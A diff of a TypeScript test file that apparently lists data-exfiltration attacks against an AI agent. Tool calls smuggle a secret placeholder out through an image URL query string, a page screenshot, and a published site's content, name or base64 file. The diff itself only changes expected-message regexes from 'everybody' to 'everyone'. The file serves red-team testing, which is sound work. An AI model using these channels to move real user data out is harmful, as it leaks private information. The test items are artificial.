@@ -42,11 +42,11 @@ export const attacksBy = (at: (path: string) => string): Attack[] => [
     [toolCallTurn('web_screenshot', { url: '$PAGE', viewport: { width: 777, height: 333 } })],
   ],
   ['the URL of an image', /127\.0\.0\.1/, [toolCallTurn('image_analyze', { source: at('/i.png?d={{plain}}') })]],
-  ['a new site', /everybody/, [publishTurn('my-notes', siteFile('index.html', '<p>{{plain}}</p>'))]],
-  ['the name of a new site', /everybody/, [publishTurn('n-{{plain}}', siteFile('index.html', '<p>Hello</p>'))]],
+  ['a new site', /everyone/, [publishTurn('my-notes', siteFile('index.html', '<p>{{plain}}</p>'))]],
+  ['the name of a new site', /everyone/, [publishTurn('n-{{plain}}', siteFile('index.html', '<p>Hello</p>'))]],
   [
     'the base64 of a file of a site',
-    /everybody/,
+    /everyone/,
     [publishTurn('my-notes', siteFile('index.html', 'x'), { path: 'a.txt', base64: '{{hex}}' })],
   ],
   [
